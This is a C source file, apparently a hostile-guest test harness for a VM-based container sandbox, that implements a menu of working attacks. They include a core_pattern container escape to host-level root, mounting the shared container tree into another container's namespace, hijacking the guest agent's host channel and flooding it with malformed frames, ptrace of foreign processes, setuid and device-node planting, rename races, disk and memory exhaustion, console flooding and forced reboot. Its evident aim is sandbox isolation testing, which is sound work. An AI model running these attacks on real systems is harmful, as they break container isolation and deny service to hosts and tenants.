// What a hostile guest does, one attack per word; built by attack.ts, run in the guest by a container that may do all.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static volatile sig_atomic_t stopped;
static void stop(int signal) { (void)signal, stopped = 1; }

static const char *word(long result) { return result >= 0 ? "done" : strerrorname_np(errno); }

/** Exchanges each pair of names for ever, as fast as it goes; a name that is not there yet is waited for. */
static int swap(int count, char **names) {
  signal(SIGTERM, stop);
  long swaps = 0;
  while (!stopped) {
    for (int i = 0; i + 1 < count; i += 2) {
      if (renameat2(AT_FDCWD, names[i], AT_FDCWD, names[i + 1], RENAME_EXCHANGE) == 0) swaps++;
      // There is nothing to win in haste.
      else if (errno == EROFS) usleep(5000);
    }
  }
  printf("%ld\n", swaps);
  return 0;
}

static long put(const char *path, mode_t mode) {
  int file = open(path, O_CREAT | O_EXCL | O_WRONLY, 0600);
  if (file < 0) return -1;
  long result = write(file, "hostile\n", 8) == 8 ? fchmod(file, mode) : -1;
  close(file);
  return result;
}

static long socket_at(const char *path) {
  struct sockaddr_un name = {.sun_family = AF_UNIX};
  strncpy(name.sun_path, path, sizeof name.sun_path - 1);
  int end = socket(AF_UNIX, SOCK_STREAM, 0);
  long result = bind(end, (struct sockaddr *)&name, sizeof name);
  int kept = errno;
  close(end);
  errno = kept;
  return result;
}

/** Tries every way to leave something in the folder it stands in; a line for each: what, and "done" or the error. */
static int plant(void) {
  struct timespec times[2] = {{1, 0}, {1, 0}};
  printf("file %s\n", word(put("x-file", 0644)));
  printf("setuid %s\n", word(put("x-setuid", 06755)));
  printf("folder %s\n", word(mkdir("x-folder", 0755)));
  printf("symlink %s\n", word(symlink("/", "x-link")));
  printf("block %s\n", word(mknod("x-block", S_IFBLK | 0666, makedev(254, 0))));
  printf("char %s\n", word(mknod("x-char", S_IFCHR | 0666, makedev(1, 1))));
  printf("fifo %s\n", word(mknod("x-fifo", S_IFIFO | 0666, 0)));
  printf("socket %s\n", word(socket_at("x-socket")));
  printf("mode %s\n", word(chmod(".", 0777)));
  printf("owner %s\n", word(chown(".", 1234, 1234)));
  printf("times %s\n", word(utimensat(AT_FDCWD, ".", times, 0)));
  printf("xattr %s\n", word(setxattr(".", "user.hostile", "1", 1, 0)));
  printf("trusted %s\n", word(setxattr(".", "trusted.hostile", "1", 1, 0)));
  return 0;
}

/** A folder in a folder, and so on. */
static int deep(const char *top, long levels) {
  int at = open(top, O_RDONLY | O_DIRECTORY);
  for (long i = 0; i < levels; i++) {
    if (mkdirat(at, "d", 0755) != 0) return printf("%ld %s\n", i, word(-1)), 1;
    int next = openat(at, "d", O_RDONLY | O_DIRECTORY);
    close(at);
    if ((at = next) < 0) return printf("%ld %s\n", i, word(-1)), 1;
  }
  printf("%ld\n", levels);
  return 0;
}

/** Lets the file system daemon close what it holds open for names that this kernel remembers. */
static void forget(void) {
  int file = open("/proc/sys/vm/drop_caches", O_WRONLY);
  if (file < 0 || write(file, "2", 1) != 1) perror("drop_caches");
  close(file);
}

/** Many names in one folder. */
static int wide(const char *top, long count) {
  if (chdir(top) != 0) return printf("0 %s\n", word(-1)), 1;
  for (long i = 0; i < count; i++) {
    char name[32];
    snprintf(name, sizeof name, "f%ld", i);
    int file = open(name, O_CREAT | O_WRONLY, 0644);
    if (file < 0) return printf("%ld %s\n", i, word(-1)), 1;
    close(file);
    if (i % 2000 == 1999) forget();
  }
  forget();
  printf("%ld\n", count);
  return 0;
}

/** Writes into a new file until nothing more goes, or the limit in MiB; prints how many MiB, and why it ended. */
static int fill(const char *path, long limit) {
  static char block[1 << 20];
  memset(block, 'x', sizeof block);
  int file = open(path, O_CREAT | O_WRONLY, 0644);
  long done = 0;
  while (file >= 0 && done < limit && write(file, block, sizeof block) == sizeof block) done++;
  printf("%ld %s\n", done, done == limit ? "limit" : word(-1));
  return 0;
}

/** Extended attributes that mean something to a kernel; prints what became of each. */
static int mark(const char *path) {
  const char *names[] = {"user.hostile", "trusted.hostile", "trusted.overlay.opaque", "security.hostile"};
  for (size_t i = 0; i < sizeof names / sizeof *names; i++)
    printf("%s %s\n", names[i], word(setxattr(path, names[i], "y", 1, 0)));
  return 0;
}

/** The names of all extended attributes. */
static int marks(const char *path) {
  char names[4096];
  ssize_t size = listxattr(path, names, sizeof names);
  for (ssize_t i = 0; i < size; i += strlen(names + i) + 1) puts(names + i);
  return size < 0;
}

/** Runs this program with the given words as the guest's root: the kernel starts it for a crash, outside of all containers. */
static int escape(const char *self, int count, char **words) {
  // The crashed process stays until this one's copy has ended.
  int waits = open("/proc/sys/kernel/core_pipe_limit", O_WRONLY);
  if (write(waits, "1", 1) != 1) return fprintf(stderr, "core_pipe_limit: %s\n", word(-1)), 1;
  char pattern[128];
  int length = snprintf(pattern, sizeof pattern, "|%s", self);
  for (int i = 0; i < count; i++)
    length += snprintf(pattern + length, sizeof pattern - length, " %s", words[i]);
  int file = open("/proc/sys/kernel/core_pattern", O_WRONLY | O_TRUNC);
  if (file < 0 || length >= (int)sizeof pattern || write(file, pattern, length) != length)
    return fprintf(stderr, "core_pattern: %s\n", word(-1)), 1;
  close(file);
  pid_t child = fork();
  if (child == 0) {
    struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_CORE, &all);
    abort();
  }
  int status = 0;
  waitpid(child, &status, 0);
  return WIFSIGNALED(status) ? 0 : 1;
}

/** Begins to trace a process that is none of its own, and lets go of it. */
static int trace(pid_t pid) {
  long result = ptrace(PTRACE_SEIZE, pid, 0, 0);
  puts(word(result));
  return 0;
}

/** As the guest's root: puts the whole share, as the agent sees it, at a place in the container that a process is in. */
static int share(const char *pid, const char *place) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/ns/mnt", pid);
  int container = open(path, O_RDONLY);
  int tree = open_tree(AT_FDCWD, "/run/kata-containers/shared/containers", OPEN_TREE_CLONE | AT_RECURSIVE);
  if (container < 0 || tree < 0 || setns(container, CLONE_NEWNS) != 0) return 1;
  return move_mount(tree, "", AT_FDCWD, place, MOVE_MOUNT_F_EMPTY_PATH) != 0;
}

/** As the guest's root: ends the machine at once. */
static int power(const char *how) {
  if (strcmp(how, "restart") == 0) return reboot(RB_AUTOBOOT);
  if (strcmp(how, "off") == 0) return reboot(RB_POWER_OFF);
  return reboot(RB_HALT_SYSTEM);
}

/** The agent's end of its channel to the host, taken from process 1. */
static int take_channel(void) {
  int agent = syscall(SYS_pidfd_open, 1, 0);
  DIR *open_files = opendir("/proc/1/fd");
  if (agent < 0 || open_files == NULL) return -1;
  for (struct dirent *entry; (entry = readdir(open_files)) != NULL;) {
    char path[64], target[128];
    snprintf(path, sizeof path, "/proc/1/fd/%.20s", entry->d_name);
    ssize_t size = readlink(path, target, sizeof target - 1);
    if (size <= 0) continue;
    target[size] = 0;
    if (strstr(target, "/vport") != NULL) return syscall(SYS_pidfd_getfd, agent, atoi(entry->d_name), 0);
  }
  errno = ENOENT;
  return -1;
}

/** Frames for ever into the agent's channel: of streams that nobody opened, or of a length that is not allowed. */
static int frames(const char *kind) {
  // The port takes at most 32 KiB at once.
  static unsigned char block[10 * 3000];
  int unknown = strcmp(kind, "unknown") == 0;
  for (size_t at = 0; at < sizeof block; at += 10) {
    uint32_t length = unknown ? 0 : 0xffffffff, stream = 0x40000001 + 2 * at;
    unsigned char frame[10] = {length >> 24, length >> 16, length >> 8, length, stream >> 24,
                               stream >> 16, stream >> 8,  stream,      2,      0};
    memcpy(block + at, frame, sizeof frame);
  }
  int channel = take_channel();
  // The kernel waits for the end of what it has started.
  if (channel < 0 || fork() != 0) return channel < 0;
  close(0);
  for (size_t at = 0;;) {
    struct pollfd room = {.fd = channel, .events = POLLOUT};
    poll(&room, 1, 1000);
    ssize_t written = write(channel, block + at, sizeof block - at);
    if (written < 0 && errno != EAGAIN && errno != EINTR) return 1;
    if (written > 0) at = (at + written) % sizeof block;
  }
}

/** Lines for ever on the machine's serial port. */
static int console(void) {
  static char line[8192];
  memset(line, '#', sizeof line - 1);
  line[sizeof line - 1] = '\n';
  mknod("/dev/hostile-console", S_IFCHR | 0600, makedev(4, 64));
  int port = open("/dev/hostile-console", O_WRONLY | O_NOCTTY);
  if (port < 0) return printf("console: %s\n", word(-1)), 1;
  for (;;) {
    if (write(port, line, sizeof line) < 0 && errno != EINTR) return 1;
  }
}

/** Children that take memory until the kernel kills them, one after the other. */
static int oom(void) {
  signal(SIGTERM, stop);
  long killed = 0;
  while (!stopped) {
    pid_t child = fork();
    if (child == 0) {
      for (;;) memset(mmap(NULL, 1 << 22, PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), 1, 1 << 22);
    }
    int status = 0;
    if (waitpid(child, &status, 0) == child && WIFSIGNALED(status)) killed++;
  }
  printf("%ld\n", killed);
  return 0;
}

int main(int count, char **words) {
  const char *what = count > 1 ? words[1] : "";
  if (strcmp(what, "swap") == 0) return swap(count - 2, words + 2);
  if (strcmp(what, "plant") == 0) return plant();
  if (strcmp(what, "deep") == 0 && count == 4) return deep(words[2], atol(words[3]));
  if (strcmp(what, "wide") == 0 && count == 4) return wide(words[2], atol(words[3]));
  if (strcmp(what, "fill") == 0 && count == 4) return fill(words[2], atol(words[3]));
  if (strcmp(what, "mark") == 0 && count == 3) return mark(words[2]);
  if (strcmp(what, "marks") == 0 && count == 3) return marks(words[2]);
  if (strcmp(what, "escape") == 0 && count > 3) return escape(words[2], count - 3, words + 3);
  if (strcmp(what, "share") == 0 && count == 4) return share(words[2], words[3]);
  if (strcmp(what, "trace") == 0 && count == 3) return trace(atoi(words[2]));
  if (strcmp(what, "power") == 0 && count == 3) return power(words[2]);
  if (strcmp(what, "frames") == 0 && count == 3) return frames(words[2]);
  if (strcmp(what, "console") == 0) return console();
  if (strcmp(what, "oom") == 0) return oom();
  fprintf(stderr, "no such attack: %s\n", what);
  return 2;
}
